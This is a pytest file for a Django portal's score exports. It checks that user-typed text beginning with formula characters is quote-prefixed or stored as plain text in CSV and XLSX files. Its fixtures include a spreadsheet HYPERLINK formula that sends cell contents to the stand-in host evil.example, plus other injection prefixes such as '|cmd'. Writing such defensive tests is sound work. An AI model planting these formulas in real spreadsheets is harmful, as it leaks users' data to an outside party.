"""Formula injection: text people typed never becomes a live formula in an export. The files
are opened again (csv, openpyxl) and every cell's value and type asserted."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from portal import exports
from tests.reviews.helpers import matrix_setup

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"클릭")'
TYPED = [HYPERLINK, "+82 54 123 4567", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "|cmd",
         "%0A", "데모식품", "1+1", ""]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).active


# --- The writers --------------------------------------------------------------------------------

def test_csv_cells_that_start_a_formula_get_a_quote():
    assert read_csv(exports.csv_bytes([TYPED])) == [[
        "'" + HYPERLINK, "'+82 54 123 4567", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1",
        "'\\|cmd", "'%0A", "데모식품", "1+1", ""]]


def test_csv_numbers_stay_numbers():
    assert read_csv(exports.csv_bytes([[80, Decimal("75.00"), -5, Decimal("-4.08"), "-5", None,
                                        0.5]])) == [["80", "75.00", "-5", "-4.08", "-5", "", "0.5"]]


def test_csv_lines_are_written_one_row_at_a_time():
    lines = exports.csv_lines(iter([["a", "=1"], ["b", 2]]))
    assert (next(lines), next(lines)) == ("\ufeffa,'=1\r\n", "b,2\r\n")
    assert list(lines) == []


def xlsx_of(rows, header=("A", "B")) -> bytes:
    workbook = exports.xlsx_workbook()
    sheet = exports.table_sheet(workbook, "Scores", list(header))
    exports.write_rows(sheet, rows)
    return exports.xlsx_bytes(workbook)


def test_xlsx_text_is_never_a_formula():
    sheet = read_xlsx(xlsx_of([TYPED], header=[f"c{n}" for n in range(len(TYPED))]))
    row = list(sheet.iter_rows(min_row=2))[0]
    assert [(cell.value, cell.data_type) for cell in row] == [
        (value.replace("\r", "\n") if value else None, "s" if value else "n")
        for value in TYPED]
    assert [cell.quotePrefix for cell in row] == [True] * 8 + [False] * 3


def test_xlsx_numbers_stay_numbers():
    sheet = read_xlsx(xlsx_of([[80, Decimal("4.08"), -5, "-5", None, True]],
                              header=list("ABCDEF")))
    assert [(cell.value, cell.data_type) for cell in list(sheet.iter_rows(min_row=2))[0]] == [
        (80, "n"), (4.08, "n"), (-5, "n"), ("-5", "s"), (None, "n"), (True, "b")]


def test_xlsx_header_is_bold_and_frozen_and_control_characters_dropped():
    sheet = read_xlsx(xlsx_of([["데모\x01식품\x0b", 1]], header=["=Receipt", "Company"]))
    assert [(c.value, c.data_type, c.font.b) for c in list(sheet.iter_rows())[0]] == [
        ("=Receipt", "s", True), ("Company", "s", True)]
    assert (sheet["A2"].value, sheet.freeze_panes, sheet.title) == ("데모식품", "B2", "Scores")


# --- The score export --------------------------------------------------------------------------

@pytest.fixture
def staff(role_users):
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(role_users["staff"])
    return client


@pytest.fixture
def injected(role_users):
    """A score matrix of two applications; the second (row 3) is a company named with a
    formula, and the first reviewer's name starts with ``@``."""
    evaluation_round, [first, second] = matrix_setup(2)
    second.company.name = HYPERLINK
    second.company.save(update_fields=["name"])
    get_user_model().objects.filter(full_name="위원0").update(full_name="@위원")
    return evaluation_round, first, second


def test_score_export_xlsx_company_named_with_a_formula_is_text(staff, injected):
    evaluation_round, first, second = injected
    with translation.override("en"):
        response = staff.get(f"/manage/reviews/rounds/{evaluation_round.pk}/export.xlsx")
    sheet = read_xlsx(response.getvalue())
    assert (sheet["B3"].value, sheet["B3"].data_type, sheet["B3"].quotePrefix) == (
        HYPERLINK, "s", True)
    assert (sheet["E1"].value, sheet["E1"].data_type) == ("@위원", "s")
    assert [(cell.value, cell.data_type) for cell in list(sheet.iter_rows(min_row=3))[0]] == [
        (second.receipt_number, "s"), (HYPERLINK, "s"), ("Basic", "s"),
        ("Under review", "s"), (79, "n"), (69, "n"), (74, "n"), (3, "n"), (3, "n"),
        (74, "n"), (74, "n"), (4.08, "n"), (74, "n"), (0, "n"), (74, "n"), (2, "n"),
        ("Above", "s"), (74, "n"), (2, "n"), (10, "n"), (None, "n")]


def test_score_export_csv_company_named_with_a_formula_is_quoted(staff, injected):
    evaluation_round, first, second = injected
    response = staff.get(f"/manage/reviews/rounds/{evaluation_round.pk}/export.csv")
    rows = read_csv(response.getvalue())
    assert rows[0][4] == "'@위원"
    assert rows[2] == [second.receipt_number, "'" + HYPERLINK, "Basic", "Under review",
                       "79.0", "69.0", "74.0", "3", "3", "74.00", "74.00", "4.08", "74.00", "0",
                       "74.00", "2", "Above", "74.00", "2", "10.0", ""]
